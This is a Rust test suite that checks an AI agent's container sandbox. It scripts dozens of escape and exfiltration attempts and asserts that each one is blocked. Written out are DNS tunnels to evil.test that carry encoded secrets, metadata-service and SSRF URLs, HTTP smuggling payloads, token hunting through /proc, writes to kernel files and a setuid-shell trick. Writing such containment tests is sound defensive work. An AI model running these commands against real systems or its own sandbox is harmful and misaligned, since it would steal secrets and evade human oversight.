//! What a hostile agent tries from inside its container: the network beside egress, the kernel, the
//! files, and on the wire what programs can send. (The wire is attacked byte by byte in
//! `sidecar/tests/roles/attack`.)
//!
//! Each attempt prints `GOT` where it succeeds. Beside it stands a twin that differs by what is
//! wrong with it alone, or does the same where it is allowed, and prints `GOT`.

use std::collections::BTreeSet;
use std::net::UdpSocket;
use std::process::Command;
use std::thread;

use bottle_planner::plan::Plan;
use bottle_planner::words::Role;
use bottle_tests::host::{Ran, ran, unique};

use crate::{Bench, CLAUDE, OWN, TOKEN, image};

/// Who does it.
#[derive(Debug, Clone)]
enum Who {
    /// The agent.
    Agent,
    /// A new container of the same image, with these words for the engine.
    Free(Vec<String>),
}

struct Attempt {
    family: &'static str,
    name: String,
    attack: String,
    twin: (Who, String),
}

/// The agent's own words for what is tried and seen.
const TOOLS: &str = r#"
got() { echo GOT; }
tcp() { timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && got; }
seen() { grep -q 'the origin saw' && got; }
web() { curl -sS -m 8 "$@" 2>&1 | seen; }
py() { timeout 6 python3 -c "$1" 2>&1; }
"#;

fn bed(family: &'static str) -> impl Fn(&mut Vec<Attempt>, &str, String, (Who, String)) {
    move |all, name, attack, twin| {
        all.push(Attempt { family, name: name.to_owned(), attack, twin });
    }
}

fn agent(script: impl Into<String>) -> (Who, String) {
    (Who::Agent, script.into())
}

fn free(words: &[&str], script: impl Into<String>) -> (Who, String) {
    (Who::Free(words.iter().map(ToString::to_string).collect()), script.into())
}

/// On the engine's default network, without more.
const PLAIN: &[&str] = &["--network", "bridge"];

/// A server on this host that sends datagrams back.
fn echo(at: std::net::Ipv4Addr) -> u16 {
    let socket = UdpSocket::bind((at, 0)).expect("a port");
    let port = socket.local_addr().expect("bound").port();
    thread::spawn(move || {
        let mut bytes = [0; 512];
        while let Ok((length, from)) = socket.recv_from(&mut bytes) {
            let _ = socket.send_to(&bytes[..length], from);
        }
    });
    port
}

/// Sends a datagram and waits for one.
fn udp(host: &str, port: u16, bytes: &str) -> String {
    format!(
        "py \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); \
         s.sendto({bytes}, ('{host}', {port})); s.recv(512); print('GOT')\""
    )
}

/// A question for a name, which is granted where an answer has an address in it.
fn name(host: &str, port: u16, name: &str, kind: u8) -> String {
    format!(
        "py \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); \
         q = b'\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' \
         + b''.join(bytes([len(l)]) + l for l in b'{name}'.split(b'.')) + b'\\x00\\x00' \
         + bytes([{kind}]) + b'\\x00\\x01'; s.sendto(q, ('{host}', {port})); a = s.recv(512); \
         print('GOT' if a[6:8] != b'\\x00\\x00' else 'none')\""
    )
}

fn ping(host: &str) -> String {
    format!(
        "py \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); \
         s.settimeout(2); s.sendto(b'\\x08\\x00\\xf7\\xfd\\x00\\x01\\x00\\x01', ('{host}', 0)); \
         s.recv(512); print('GOT')\""
    )
}

fn network(bench: &Bench) -> Vec<Attempt> {
    let mut all = Vec::new();
    let add = bed("network");
    let outside = bench.outside.to_string();
    let egress = bench.plan.session.places[&Role::Egress].net;
    let own = bench.plan.session.places[&Role::Agent].net;
    let datagrams = echo(bench.outside);
    for (name, port) in [("https", 443), ("plain http", 80)] {
        let script = format!("tcp {outside} {port}");
        add(
            &mut all,
            &format!("the outside's {name}, directly"),
            script.clone(),
            free(PLAIN, script),
        );
    }
    for (name, address) in [("the network's first address", u32::from(own) & !0xf | 1)] {
        let address = std::net::Ipv4Addr::from(address);
        for port in [22, 80, 443, 2375, 2376] {
            let name = format!("port {port} of {name}");
            add(
                &mut all,
                &name,
                format!("tcp {address} {port}"),
                agent(format!("tcp {egress} 443")),
            );
        }
    }
    for port in [1, 22, 25, 123, 3128, 8080, 8888, 9100, 9418] {
        let attack = format!("tcp {egress} {port}");
        add(
            &mut all,
            &format!("port {port} of egress"),
            attack,
            agent(format!("tcp {egress} 9099")),
        );
    }
    let script = udp(&outside, datagrams, "b'x'");
    add(&mut all, "a datagram to the host", script.clone(), free(PLAIN, script));
    let granted = name(&egress.to_string(), 53, "api.test", 1);
    for resolver in ["8.8.8.8", "1.1.1.1", &outside] {
        let attack = name(resolver, 53, "api.test", 1);
        add(&mut all, &format!("the resolver {resolver}"), attack, agent(granted.clone()));
    }
    // The engine's own asks egress, so it knows no more.
    let engine = |host| name("127.0.0.11", 53, host, 1);
    for host in ["evil.test", "deb.debian.org", "host.docker.internal"] {
        let twin = agent(engine("api.test"));
        add(&mut all, &format!("the engine's resolver for {host}"), engine(host), twin);
    }
    for (kind, number) in [("TXT", 16), ("NULL", 10), ("CNAME", 5), ("ANY", 255), ("AAAA", 28)] {
        let attack = name(&egress.to_string(), 53, "c2VjcmV0.t.evil.test", number);
        add(&mut all, &format!("a tunnel of names, {kind}"), attack, agent(granted.clone()));
    }
    let leak = name(&egress.to_string(), 53, &format!("{OWN}.wild.test"), 1);
    let twin = name(&egress.to_string(), 53, "harmless.wild.test", 1);
    add(&mut all, "a secret as a name below a wildcard", leak, agent(twin));
    for (name, address) in [("the host", outside.as_str()), ("a stranger", "1.1.1.1")] {
        let reached = ping(&egress.to_string());
        add(&mut all, &format!("an echo from {name}"), ping(address), agent(reached));
    }
    for (name, address) in [
        ("link-local", "fe80::1%eth0"),
        ("all nodes", "ff02::1%eth0"),
        ("global", "2606:4700::1111"),
    ] {
        let v6 = |address: &str| {
            format!(
                "py \"import socket; i = socket.getaddrinfo('{address}', 443, type=socket.SOCK_DGRAM)[0]; \
                 s = socket.socket(i[0], i[1]); s.connect(i[4]); s.send(b'x'); print('GOT')\""
            )
        };
        let twin = v6(&egress.to_string());
        add(&mut all, &format!("IPv6, {name}"), v6(address), agent(twin));
    }
    let raw = |kind: &str| format!("py \"import socket; {kind}; print('GOT')\"");
    for (name, script) in [
        ("a raw socket", raw("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)")),
        (
            "frames, as ARP is spoofed with",
            raw("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0608)"),
        ),
        (
            "listening to all frames",
            raw("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)"),
        ),
    ] {
        add(&mut all, name, script.clone(), free(&["--cap-add", "NET_RAW"], script));
    }
    let bind = |address: &str| {
        format!("py \"import socket; socket.socket().bind(('{address}', 0)); print('GOT')\"")
    };
    let twin = agent(bind(&own.to_string()));
    add(&mut all, "egress's address as its own", bind(&egress.to_string()), twin);
    let ioctl = |number: &str| {
        format!(
            "py \"import socket, fcntl, struct; s = socket.socket(); fcntl.ioctl(s, {number}, \
             struct.pack('16sH14s', b'lo', 2, b'\\0\\0' + socket.inet_aton('127.0.0.9'))); print('GOT')\""
        )
    };
    for (name, number) in [("another address", "0x8916"), ("an interface taken down", "0x8914")] {
        let twin = free(&["--cap-add", "NET_ADMIN"], ioctl(number));
        add(&mut all, name, ioctl(number), twin);
    }
    all
}

/// Another session of the same host beside this one.
fn neighbour(bench: &Bench, other: &Plan) -> Vec<Attempt> {
    let mut all = Vec::new();
    let add = bed("neighbour");
    let network = format!("bottle-net-{}", other.identity);
    let words = ["--network", network.as_str()];
    let egress = &other.session.places[&Role::Egress];
    let agent = other.session.places[&Role::Agent].net;
    for port in [53, 80, 443, 9099] {
        let script = format!("tcp {} {port}", egress.net);
        add(&mut all, &format!("port {port} of its egress"), script.clone(), free(&words, script));
    }
    let outer = egress.out.expect("egress has a way out");
    for (name, address) in [("its egress", egress.net), ("its agent", agent)] {
        let script = ping(&address.to_string());
        add(&mut all, &format!("an echo from {name}"), script.clone(), free(&words, script));
    }
    let out = format!("bottle-out-{}", other.identity);
    let script = ping(&outer.to_string());
    let twin = free(&["--network", &out], script.clone());
    add(&mut all, "an echo from its egress's way out", script, twin);
    let ask = |of: std::net::Ipv4Addr| name(&of.to_string(), 53, "api.test", 1);
    let own = bench.plan.session.places[&Role::Egress].net;
    add(&mut all, "its resolver", ask(egress.net), self::agent(ask(own)));
    let script = name("127.0.0.11", 53, &format!("bottle-{}", other.identity), 1);
    add(&mut all, "its name, from the engine's resolver", script.clone(), free(&words, script));
    all
}

fn wire(bench: &Bench) -> Vec<Attempt> {
    let mut all = Vec::new();
    let add = bed("wire");
    let outside = bench.outside;
    let number = u32::from(outside);
    let twin = || agent("web https://api.test/open/x");
    for (name, url) in [
        ("a host without a route", "https://evil.test/open/x".to_owned()),
        ("a path that is not granted", "https://api.test/closed/x".into()),
        ("another port", "https://api.test:8443/open/x".into()),
        ("plain http to a host of https", "http://api.test/open/x".into()),
        ("https to a host of plain http", "https://plain.test/open/x".into()),
        ("an address", format!("http://{outside}/open/x")),
        ("an address in decimal", format!("http://{number}/open/x")),
        ("an address in hexadecimal", format!("http://0x{number:x}/open/x")),
        ("an address in octal", format!("http://0{number:o}/open/x")),
        ("an address mapped into IPv6", format!("http://[::ffff:{outside}]/open/x")),
        ("a user before the host", "http://plain.test@evil.test/open/x".into()),
        ("the metadata service", "http://169.254.169.254/latest/meta-data/".into()),
        (
            "the metadata service's name",
            "http://metadata.google.internal/computeMetadata/v1/".into(),
        ),
        ("the host by the engine's name", "http://host.docker.internal/open/x".into()),
        ("a resolver over https", "https://dns.google/resolve?name=evil.test".into()),
        ("a resolver over https, by address", "https://1.1.1.1/dns-query?name=evil.test".into()),
        ("out of the granted path", "https://api.test/open/../closed/x".into()),
        ("out of the granted path, escaped", "https://api.test/open/%2e%2e/closed/x".into()),
        (
            "out of the granted path, escaped twice",
            "https://api.test/open/%252e%252e/closed/x".into(),
        ),
        ("out of the granted path, with a semicolon", "https://api.test/open/..;/closed/x".into()),
        ("out of the granted path, with a backslash", "https://api.test/open/..%5cclosed/x".into()),
        ("a secret in the path", format!("https://api.test/open/{OWN}")),
        ("a secret in the query", format!("https://api.test/open/x?a={OWN}")),
    ] {
        add(&mut all, name, format!("web --path-as-is -g '{url}'"), twin());
        // Without a proxy addresses are dialled, and there is no way.
        let name = format!("{name}, without a proxy");
        let attack = format!("web --noproxy '*' --path-as-is -g '{url}'");
        add(&mut all, &name, attack, agent("web --noproxy '*' https://api.test/open/x"));
    }
    let to = |words: &str| format!("web {words} https://api.test/open/x");
    for (name, words, granted) in [
        ("another Host", "-H 'Host: evil.test'", ""),
        ("another server name", "--connect-to api.test:443:evil.test:443", ""),
        ("a secret in a header", &format!("-H 'X-A: {OWN}'"), "-H 'X-A: harmless'"),
        ("a secret in a cookie", &format!("-b 'a={OWN}'"), "-b 'a=harmless'"),
        ("a secret in a body", &format!("-d 'a={OWN}'"), "-d 'a=harmless'"),
        ("a secret in a form", &format!("-F 'a={OWN}'"), "-F 'a=harmless'"),
        ("a secret over HTTP/1.1", &format!("--http1.1 -d 'a={OWN}'"), "--http1.1 -d 'a=harmless'"),
        ("egress's own credential", &format!("-d 'a={TOKEN}'"), "-d 'a=harmless'"),
    ] {
        add(&mut all, name, to(words), agent(to(granted)));
    }
    for (name, filter) in [
        ("in base64", "base64 -w0"),
        ("in hexadecimal", "od -An -v -tx1 | tr -d ' \\n'"),
        ("in base64 twice", "base64 -w0 | base64 -w0"),
    ] {
        let send = |text: &str| {
            format!(
                "printf %s '{text}' | {filter} >/tmp/b; web --data-binary @/tmp/b https://api.test/open/x"
            )
        };
        add(&mut all, &format!("a secret {name}"), send(OWN), agent(send("harmless-harmless")));
    }
    let gzip = |text: &str| {
        format!(
            "printf %s '{text}' | gzip >/tmp/b; web -H 'Content-Encoding: gzip' --data-binary @/tmp/b https://api.test/open/x"
        )
    };
    add(&mut all, "a secret, compressed", gzip(OWN), agent(gzip("harmless-harmless")));
    let socket = |path: &str, text: &str| {
        format!(
            "py \"import asyncio, websockets
async def main():
    async with websockets.connect('wss://api.test/{path}') as ws:
        await ws.send('{text}')
        print(await ws.recv())
asyncio.run(main())\" | seen"
        )
    };
    add(
        &mut all,
        "a WebSocket elsewhere",
        socket("closed/ws", "hello"),
        agent(socket("open/ws", "hello")),
    );
    add(
        &mut all,
        "a secret in a WebSocket",
        socket("open/ws", OWN),
        agent(socket("open/ws", "hello")),
    );
    let bytes = |text: &str| {
        format!(
            "(exec 3<>/dev/tcp/plain.test/80; printf '{text}' >&3; timeout 5 cat <&3) 2>/dev/null | seen"
        )
    };
    let plain = "GET /open/x HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n";
    for (name, text) in [
        (
            "a length and chunks",
            "POST /open/x HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "two lengths",
            "POST /open/x HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 1\\r\\nContent-Length: 0\\r\\n\\r\\nx",
        ),
        ("a bare LF", "GET /open/x HTTP/1.1\\nHost: plain.test\\n\\n"),
        ("a space before a colon", "GET /open/x HTTP/1.1\\r\\nHost : plain.test\\r\\n\\r\\n"),
        (
            "a folded line",
            "GET /open/x HTTP/1.1\\r\\nHost: plain.test\\r\\nX-A: b\\r\\n c\\r\\n\\r\\n",
        ),
    ] {
        add(&mut all, name, bytes(text), agent(bytes(plain)));
    }
    let told = "curl -sS -m 8 http://egress.local/routes | grep -q api.test && got";
    for (name, words) in [
        ("egress's routes written", "-X PUT -d '{}' http://egress.local/routes"),
        ("egress's state", "http://egress.local/state"),
        ("egress's key", "--path-as-is http://egress.local/routes/../../in/ca.key"),
    ] {
        let attack =
            format!("curl -sS -m 8 -o /dev/null -w '%{{http_code}}' {words} | grep -q 200 && got");
        add(&mut all, name, attack, agent(told));
    }
    all
}

fn inside() -> Vec<Attempt> {
    let mut all = Vec::new();
    let add = bed("container");
    let everywhere = |text: &str| {
        format!(
            "grep -rsl '{text}' /.bottle /run /tmp /home /etc /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -q . && got"
        )
    };
    // A pattern that does not find itself in the arguments of who searches.
    let pattern = |value: &str| format!("{}[{}]{}", &value[..6], &value[6..7], &value[7..]);
    for (name, value) in [("the token", TOKEN), ("the model's token", CLAUDE)] {
        let twin = agent(everywhere(&pattern("plain-literal-blue")));
        let attack = everywhere(&pattern(value));
        add(&mut all, &format!("{name} in files and environments"), attack, twin);
    }
    let find = |name: &str| format!("find / -xdev -name '{name}' 2>/dev/null | grep -q . && got");
    add(&mut all, "the session's key", find("ca.key"), agent(find("ca-certificates.crt")));
    add(&mut all, "the engine's socket", find("docker.sock"), agent(find("resolv.conf")));
    let write = |path: &str| format!("(echo x >>{path}) 2>/dev/null && got");
    for path in [
        "/.bottle/in/init.json",
        "/.bottle/in/new",
        "/.bottle/bin/bottle",
        "/etc/resolv.conf",
        "/etc/hosts",
        "/etc/passwd",
        "/etc/ssl/certs/ca-certificates.crt",
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
    ] {
        add(&mut all, &format!("writing {path}"), write(path), agent(write("/tmp/x")));
    }
    let root: &[&str] = &["--user", "0:0"];
    for (name, script) in [
        ("becoming root", "py \"import os; os.setuid(0); print('GOT')\""),
        ("giving a file to root", "touch /tmp/y && chown 0:0 /tmp/y 2>/dev/null && got"),
        ("making a device", "mknod /tmp/null-$$ c 1 3 2>/dev/null && got"),
    ] {
        // Who is root already is not told apart by a name.
        add(&mut all, name, script.into(), free(root, script));
    }
    let admin: &[&str] = &[
        "--user",
        "0:0",
        "--cap-add",
        "SYS_ADMIN",
        "--security-opt",
        "seccomp=unconfined",
        "--security-opt",
        "apparmor=unconfined",
    ];
    for (name, script) in [
        ("mounting", "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m 2>/dev/null && got"),
        ("a namespace of users", "unshare -U true 2>/dev/null && got"),
        ("a namespace of networks", "unshare -n true 2>/dev/null && got"),
        ("another root", "unshare -m true 2>/dev/null && got"),
        (
            "another host's name",
            "hostname x 2>/dev/null && got; py \"import socket; socket.sethostname('x'); print('GOT')\"",
        ),
    ] {
        add(&mut all, name, script.into(), free(admin, script));
    }
    let trace = |pid: &str| {
        format!(
            "py \"import ctypes, os, subprocess; p = subprocess.Popen(['sleep', '5']); c = ctypes.CDLL(None, use_errno=True); \
             print('GOT' if c.ptrace(16, {pid}, 0, 0) == 0 else 'no'); os.kill(p.pid, 9)\""
        )
    };
    add(&mut all, "tracing the init", trace("1"), agent(trace("p.pid")));
    let read = |file: &str| format!("head -c 1 {file} >/dev/null 2>&1 && got");
    for file in ["/proc/1/mem", "/proc/1/environ", "/proc/kcore", "/dev/mem", "/proc/kmsg"] {
        add(&mut all, &format!("reading {file}"), read(file), agent(read("/proc/self/environ")));
    }
    let kill = |pid: &str| {
        format!(
            "sleep 100 & sleep=$!; kill -9 {pid} 2>/dev/null; sleep 0.2; kill -0 {pid} 2>/dev/null || got; kill $sleep 2>/dev/null"
        )
    };
    add(
        &mut all,
        "killing the init",
        kill("1"),
        agent(
            kill("$sleep")
                .replace("kill -9 $sleep 2>/dev/null;", "kill -9 $sleep; wait $sleep 2>/dev/null;"),
        ),
    );
    let setuid =
        "cp /bin/sh /tmp/sh && chmod 4755 /tmp/sh && [ \"$(/tmp/sh -p -c 'id -u')\" = 0 ] && got";
    add(&mut all, "a set-user-id shell", setuid.into(), free(root, setuid));
    all
}

fn run(bench: &Bench, who: &Who, script: &str) -> Ran {
    let script = format!("{TOOLS}{script}");
    match who {
        Who::Agent => bench.inside(&script),
        Who::Free(words) => {
            let mut command = Command::new("docker");
            command.args(["run", "--rm", "-i"]).args(words).args([image::clients(), "bash", "-s"]);
            ran(&mut command, script.as_bytes())
        }
    }
}

fn got(ran: &Ran) -> bool {
    ran.out.lines().any(|line| line == "GOT")
}

/// Tries each and its twin; answers what went wrong.
fn try_all(bench: &Bench, attempts: &[Attempt]) -> Vec<String> {
    let mut wrong = Vec::new();
    for attempt in attempts {
        let (family, name) = (attempt.family, &attempt.name);
        let ran = run(bench, &Who::Agent, &attempt.attack);
        if got(&ran) {
            wrong.push(format!("{family} / {name}: GOT THROUGH: {} {}", ran.out, ran.err));
        }
        let ran = run(bench, &attempt.twin.0, &attempt.twin.1);
        if !got(&ran) {
            wrong.push(format!("{family} / {name}: its twin fails: {} {}", ran.out, ran.err));
        }
    }
    wrong
}

#[test]
fn nothing_gets_out_but_what_is_granted() {
    let bench = Bench::new();
    let other = bench.host.up(&unique("neighbour"));
    let families = [network(&bench), neighbour(&bench, &other), wire(&bench), inside()];
    let all: Vec<Attempt> = families.into_iter().flatten().collect();
    let names: BTreeSet<(&str, &str)> = all.iter().map(|a| (a.family, a.name.as_str())).collect();
    assert_eq!(names.len(), all.len(), "a name stands for two attempts");
    assert!(all.len() >= 80, "only {} attempts", all.len());
    // Four at a time: most of them wait for something that does not come.
    let parts: Vec<&[Attempt]> = all.chunks(all.len().div_ceil(4)).collect();
    let wrong: Vec<String> = thread::scope(|scope| {
        let running: Vec<_> =
            parts.iter().map(|part| scope.spawn(|| try_all(&bench, part))).collect();
        running.into_iter().flat_map(|part| part.join().expect("no panic")).collect()
    });
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), all.len(), wrong.join("\n"));
    let log = bench.log();
    assert!(log.lines().filter(|line| line.contains("\"refuse\"")).count() > 50, "{log}");
    for secret in [OWN, TOKEN, CLAUDE] {
        assert!(!log.contains(secret), "a secret is in the log");
    }
}
